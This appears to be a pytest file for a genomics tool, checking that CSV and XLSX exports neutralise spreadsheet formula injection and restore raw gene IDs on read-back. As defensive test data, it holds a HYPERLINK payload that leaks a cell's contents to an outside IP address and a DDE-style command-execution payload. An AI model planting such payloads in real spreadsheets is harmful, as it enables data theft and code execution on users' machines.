"""Issue 19 point 8: formula injection neutralised in every CSV/XLSX export (OWASP's rule), raw values
kept in the other formats and restored when an exported table is read back."""

from __future__ import annotations

import ast
import io
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from deepdife_core import files as _files
from deepdife_core.cli import main as cli
from deepdife_core.data.io import read_table
from deepdife_core.model import folder as _folder

ROOT = Path(__file__).resolve().parents[2]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
EVIL = '=HYPERLINK("http://203.0.113.10/x?"&A1,"click")'


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text and text.lower() not in ("nan", "inf", "-inf", "+inf", "infinity")


@settings(max_examples=400, deadline=None, derandomize=True, database=None)
@given(st.text(alphabet=st.sampled_from(list("=+-@'\t\rAb1.e ,\"")), max_size=8))
@example("=1+1")
@example("'=1+1")
@example("''-x")
@example("-1.5")
@example("+3e-4")
@example("@SUM(A1)")
@example("\t=x")
@example("+")
@example("'-")
def test_a_neutralised_cell_is_inert_and_restores_exactly(value):
    safe = _files.neutralise_cell(value)
    assert _files.restore_cell(safe) == value
    if value[:1] in TRIGGERS and len(value) > 1 and not _files._NUMBER.fullmatch(value):
        assert safe == "'" + value
    if safe[:1] in TRIGGERS:  # what a spreadsheet could still see as a formula: plain numbers, a lone sign
        assert _files._NUMBER.fullmatch(safe) or len(safe) == 1


@settings(max_examples=150, deadline=None, derandomize=True, database=None)
@given(
    st.lists(st.text(alphabet=st.sampled_from(list("=+-@'AbC1.,\"")), min_size=1, max_size=6), min_size=1, max_size=6)
)
def test_an_exported_table_reads_back_as_it_was(ids):
    df = pd.DataFrame({"gene_id": ids, "score": np.linspace(-1, 1, len(ids))})
    text = _files.export_csv(df)
    raw = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    for cell in raw["gene_id"]:
        assert cell[:1] not in TRIGGERS or _files._NUMBER.fullmatch(cell) or len(cell) == 1
    back = read_table(text.encode(), name="export.csv")
    assert back["gene_id"].tolist() == ids
    assert np.allclose(back["score"].astype(float), df["score"])  # negative numbers stay numbers


def test_xlsx_export_holds_text_not_formulas():
    data = _files.export_xlsx(pd.DataFrame({"gene_id": [EVIL, "AT1G01010"], "p": [0.5, -0.25]}))
    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert ws["A2"].data_type == "s" and ws["A2"].value == "'" + EVIL
    assert ws["B3"].value == -0.25
    assert read_table(data, name="x.xlsx")["gene_id"].tolist() == [EVIL, "AT1G01010"]


def test_predict_csv_neutralises_gene_ids(tmp_path, capsys):
    from deepdife_core.config import ModelConfig, RunConfig
    from deepdife_core.model.cnn import build_model

    cfg = ModelConfig(input_length=60, kernel_size=6, filters=4, dense_units=(4,))
    model = _folder.save_model_folder(tmp_path / "m", models=[build_model(cfg)], config=RunConfig(model=cfg))
    rng = np.random.default_rng(0)
    seqs = ["".join(rng.choice(list("ACGT"), 60)) for _ in range(3)]
    ids = [EVIL, "+cmd|'/C_calc'!A0", "AT1G01010"]
    fasta = tmp_path / "x.fa"
    fasta.write_text("".join(f">{i}\n{s}\n" for i, s in zip(ids, seqs, strict=True)))
    out = tmp_path / "preds.csv"
    assert cli.main(["predict", "--model", str(model), "--fasta", str(fasta), "--out", str(out), "-q"]) == 0
    raw = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert raw["gene_id"].tolist()[:2] == ["'" + EVIL, "'+cmd|'/C_calc'!A0"]
    assert raw["gene_id"].tolist()[2] == "AT1G01010"
    assert read_table(out)["gene_id"].tolist() == ids  # read back, the IDs are the genes'


def test_dataset_build_output_is_neutralised_and_trains_on_the_raw_ids(tmp_path):
    from deepdife_core.data.io import load_dataset

    rng = np.random.default_rng(1)
    ids = ["-evil", "@x", "AT1", "AT2"]
    table = pd.DataFrame(
        {"gene_id": ids, "label": [1, 0, 1, 0], "sequence": ["".join(rng.choice(list("ACGT"), 50)) for _ in ids]}
    )
    src = tmp_path / "full.csv"
    table.to_csv(src, index=False)
    out = tmp_path / "data.csv"
    assert cli.main(["dataset", "build", "--table", str(src), "--out", str(out), "-q", "--length", "50"]) == 0
    raw = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert raw["gene_id"].tolist()[:2] == ["'-evil", "'@x"]
    assert load_dataset(out)["gene_id"].tolist() == ids


def _calls(path: Path) -> list[ast.Call]:
    return [n for n in ast.walk(ast.parse(path.read_text())) if isinstance(n, ast.Call)]


@pytest.mark.parametrize("folder", ["dashboard", "pages"])
def test_no_download_bypasses_the_export_helper(folder):
    """No page offers a CSV/XLSX made by a bare ``DataFrame.to_csv``/``to_excel`` (``_files.export_csv`` it is)."""
    bare = []
    for p in sorted((ROOT / folder).rglob("*.py")):
        for call in _calls(p):
            if not (isinstance(call.func, ast.Attribute) and call.func.attr == "download_button"):
                continue
            for arg in [*call.args, *(k.value for k in call.keywords)]:
                bare += [
                    f"{p.relative_to(ROOT)}:{n.lineno}"
                    for n in ast.walk(arg)
                    if isinstance(n, ast.Call) and isinstance(n.func, ast.Attribute)
                    if n.func.attr in ("to_csv", "to_excel")
                ]
    allowed = {"dashboard/page_experiments.py"}  # issue 16's page, in progress (see the issue-19 report)
    assert [b for b in bare if b.split(":")[0] not in allowed] == []


def test_a_strand_column_stays_readable():
    text = _files.export_csv(pd.DataFrame({"gene_id": ["-x", "G"], "strand": ["+", "-"]}))
    assert text.splitlines()[1:] == ["'-x,+", "G,-"]
